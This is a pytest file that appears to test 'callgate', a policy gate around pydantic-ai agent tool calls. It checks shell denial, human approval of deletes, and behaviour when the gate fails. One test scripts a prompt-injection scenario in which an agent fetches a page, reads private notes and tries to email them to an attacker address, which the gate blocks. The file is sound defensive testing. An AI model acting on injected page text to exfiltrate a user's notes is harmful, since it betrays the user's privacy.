"""pydantic-ai's own ``Agent`` and tool loop, driven by its ``FunctionModel`` with a script."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

import pytest
from pydantic_ai import Agent, DeferredToolRequests, DeferredToolResults
from pydantic_ai.messages import (
    ModelMessage,
    ModelRequest,
    ModelResponse,
    RetryPromptPart,
    TextPart,
    ToolCallPart,
    ToolReturnPart,
)
from pydantic_ai.models.function import AgentInfo, FunctionModel
from pydantic_ai.toolsets import FunctionToolset

from callgate import Kernel
from callgate.integrations.adapters._gate import Gate
from callgate.integrations.adapters.pydantic_ai import CallgateToolset
from tests.integrations.adapters.conftest import (
    ATTACKER,
    NOTES,
    BrokenGate,
    RecordingGate,
    Tools,
)

Step = Sequence[tuple[str, dict[str, Any]]] | str


class Script:
    """A model that makes the scripted calls, one step a turn, and records what it was sent."""

    def __init__(self, *steps: Step) -> None:
        self.steps = list(steps)
        self.seen: list[Any] = []

    def __call__(self, messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        last = messages[-1]
        if isinstance(last, ModelRequest):
            self.seen.extend(p for p in last.parts
                             if isinstance(p, ToolReturnPart | RetryPromptPart))
        step = self.steps.pop(0) if self.steps else "done"
        if isinstance(step, str):
            return ModelResponse(parts=[TextPart(step)])
        return ModelResponse(parts=[ToolCallPart(name, args, tool_call_id=f"c{len(self.steps)}")
                                    for name, args in step])

    def retries(self) -> list[str]:
        """What the model was told to retry on (a ``ModelRetry`` the tool raised)."""
        return [str(p.content) for p in self.seen if _retried(p)]

    def returns(self) -> dict[str, str]:
        """What the tools returned to the model."""
        return {p.tool_name: str(p.content) for p in self.seen
                if isinstance(p, ToolReturnPart) and not _retried(p)}


def _retried(part: Any) -> bool:
    return isinstance(part, RetryPromptPart) or getattr(part, "outcome", None) == "retried"


def run(agent: Agent[None, Any], prompt: str | None = None, **kwargs: Any) -> Any:
    """``agent.run`` in a fresh event loop that is closed after (``run_sync`` leaves its loop
    open)."""
    return asyncio.run(agent.run(prompt, **kwargs))


def agent_for(script: Script, tools: Tools, gate: Gate) -> Agent[None, Any]:
    toolset = FunctionToolset([tools.fetch_page, tools.read_notes, tools.send_email,
                               tools.delete_file, tools.run_shell], max_retries=3)
    return Agent(FunctionModel(script), toolsets=[CallgateToolset(toolset, gate=gate)],
                 output_type=[str, DeferredToolRequests])


def test_an_allowed_call_runs_and_its_output_is_reported(gate: RecordingGate,
                                                         tools: Tools) -> None:
    script = Script([("read_notes", {})], "done")
    result = run(agent_for(script, tools, gate), "what are my notes?")
    assert result.output == "done"
    assert script.returns() == {"read_notes": NOTES}
    assert [(r.status, r.output) for r in gate.reported] == [("ok", NOTES)]
    assert "tool-output" in gate.kernel.taint


def test_a_denied_call_does_not_run_and_the_model_reads_the_reason(gate: RecordingGate,
                                                                   tools: Tools) -> None:
    script = Script([("run_shell", {"command": "id"})], "done")
    run(agent_for(script, tools, gate), "run id")
    assert tools.shell == []
    [retry] = script.retries()
    assert "[no-shell] this assistant runs no shell commands" in retry
    assert gate.reported == []


def test_require_approval_defers_the_call_and_runs_it_once_approved(gate: RecordingGate,
                                                                    tools: Tools) -> None:
    script = Script([("delete_file", {"path": "old.txt"})], "deleted")
    agent = agent_for(script, tools, gate)
    first = run(agent, "delete old.txt")
    assert isinstance(first.output, DeferredToolRequests)
    [asked] = first.output.approvals
    assert asked.tool_name == "delete_file" and tools.deleted == []
    assert "[approve-deletes]" in first.output.metadata[asked.tool_call_id]["callgate"]

    second = run(agent, message_history=first.all_messages(),
                            deferred_tool_results=DeferredToolResults(
                                approvals={asked.tool_call_id: True}))
    assert second.output == "deleted" and tools.deleted == ["old.txt"]
    # one decision, run under once approved; its result reported against it
    assert gate.verdicts() == [("delete_file", "require-approval")]
    assert [r.call_id for r in gate.reported] == [gate.decisions[0].call_id]


def test_an_approval_the_human_refused_never_runs(gate: RecordingGate, tools: Tools) -> None:
    script = Script([("delete_file", {"path": "old.txt"})], "kept")
    agent = agent_for(script, tools, gate)
    first = run(agent, "delete old.txt")
    assert isinstance(first.output, DeferredToolRequests)
    [asked] = first.output.approvals
    run(agent, message_history=first.all_messages(),
                   deferred_tool_results=DeferredToolResults(
                       approvals={asked.tool_call_id: False}))
    assert tools.deleted == []


def test_an_injection_in_a_page_is_stopped_two_calls_later(gate: RecordingGate,
                                                           tools: Tools) -> None:
    script = Script([("fetch_page", {"url": "https://weather.example/today"})],
                    [("read_notes", {})],
                    [("send_email", {"to": ATTACKER, "body": NOTES})],
                    "done")
    run(agent_for(script, tools, gate), "what is the weather?")
    assert tools.sent == []
    assert gate.verdicts() == [("fetch_page", "allow"), ("read_notes", "allow"),
                               ("send_email", "deny")]
    denied = gate.decisions[-1]
    assert denied.witness is not None and denied.witness.statement == "no-recipient-from-web"
    [retry] = script.retries()
    assert "no-recipient-from-web" in retry


def test_mail_to_an_address_no_page_gave_is_sent(gate: RecordingGate, tools: Tools) -> None:
    script = Script([("fetch_page", {"url": "https://weather.example/today"})],
                    [("send_email", {"to": "me@home.example", "body": "sunny"})], "done")
    run(agent_for(script, tools, gate), "mail me the weather")
    assert tools.sent == [{"to": "me@home.example", "body": "sunny"}]


def test_a_gate_that_fails_refuses_every_call(tools: Tools) -> None:
    script = Script([("read_notes", {})], "done")
    run(agent_for(script, tools, BrokenGate()), "notes?")
    [retry] = script.retries()
    assert "[adapter.error]" in retry and "ConnectionError" in retry


def test_a_result_the_gate_cannot_record_is_withheld(gate: RecordingGate, tools: Tools,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise OSError("disk full")

    monkeypatch.setattr(gate, "report", refuse)
    script = Script([("read_notes", {})], "done")
    run(agent_for(script, tools, gate), "notes?")
    assert "read_notes" not in script.returns()
    [retry] = script.retries()
    assert "withheld" in retry and NOTES not in retry


def test_a_tool_that_raises_is_reported_as_an_error(gate: RecordingGate, tools: Tools) -> None:
    def read_notes() -> str:
        raise FileNotFoundError("notes.txt")

    toolset = FunctionToolset([read_notes])
    agent = Agent(FunctionModel(Script([("read_notes", {})], "done")),
                  toolsets=[CallgateToolset(toolset, gate=gate)])
    with pytest.raises(FileNotFoundError):
        run(agent, "notes?")
    [result] = gate.reported
    assert result.status == "error" and "FileNotFoundError" in (result.error or "")


def test_end_run_ends_the_gates_run(kernel: Kernel, tools: Tools) -> None:
    toolset = CallgateToolset(FunctionToolset([tools.read_notes]), gate=kernel)
    assert asyncio.run(toolset.end_run()) == []
    assert kernel.end_run() == []  # already ended
